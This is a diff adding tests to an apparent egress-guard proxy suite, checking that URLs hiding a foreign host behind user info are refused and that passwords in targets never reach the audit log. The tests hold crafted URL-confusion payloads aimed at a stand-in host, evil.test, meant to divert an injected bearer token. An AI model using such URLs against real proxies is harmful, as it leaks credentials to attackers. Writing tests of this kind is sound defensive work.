@@ -131,6 +131,33 @@ describe.each(ADAPTERS)('%s traps', (adapter) => {
     expect(deny.upstreams.alpha.received.at(-1)).toMatchObject({ path: '/v1/models?absolute=1', headers: { authorization: `Bearer ${SECRETS.alpha}` } })
   })
 
+  // WHATWG reads the host after the last `@` of the authority (and `\\` ends it): a library that
+  // splits on `:` or `/` sees `api.alpha.test` in each of these, the upstream a foreign host.
+  it.each([
+    'http://api.alpha.test:443@evil.test/v1/ui',
+    'https://api.alpha.test@evil.test/v1/ui',
+    'http://api.alpha.test:x@evil.test:443/v1/ui',
+    'http://u@api.alpha.test@evil.test/v1/ui'
+  ])('catches a host hidden behind user info inside the tunnel: %s', async (target) => {
+    const before = deny.upstreams.alpha.received.length
+    const answer = await curl(deny.proxy.url, deny.proxyCaPath, 'https://api.alpha.test/v1/models', ['--request-target', target])
+    expect(answer).toEqual({ status: 403, body: 'Forbidden by egress-guard proxy policy (host_mismatch)' })
+    expect(deny.upstreams.alpha.received).toHaveLength(before)
+    // In an allow mode it passes, never with the credential.
+    const earlier = allow.upstreams.alpha.received.length
+    const passed = await curl(allow.proxy.url, allow.proxyCaPath, 'https://api.alpha.test/v1/models', ['--request-target', target])
+    expect(passed.status).not.toBe(403)
+    for (const seen of allow.upstreams.alpha.received.slice(earlier)) expect(seen.headers.authorization ?? '').not.toContain(SECRETS.alpha)
+  })
+
+  it('never records user info: an absolute target with user:password inside the tunnel is judged and logged without it', async () => {
+    const answer = await curl(deny.proxy.url, deny.proxyCaPath, 'https://api.alpha.test/v1/models', ['--request-target', 'https://someone:pa55w0rd-in-url@api.alpha.test/v1/ui?x=1'])
+    expect(answer.status).toBe(200)
+    expect(deny.upstreams.alpha.received.at(-1)).toMatchObject({ path: '/v1/ui?x=1', headers: { authorization: `Bearer ${SECRETS.alpha}` } })
+    expect(await deny.auditText()).not.toContain('pa55w0rd-in-url')
+    expect(await deny.auditText()).not.toContain('someone')
+  })
+
   it('accepts any spelling of a routed host, normalised before the library sees it', async () => {
     for (const spelling of ['API.ALPHA.TEST', 'api.alpha.test.', 'Api.Alpha.Test.']) {
       const answer = await curl(allow.proxy.url, allow.proxyCaPath, `https://${spelling}/v1/models`)
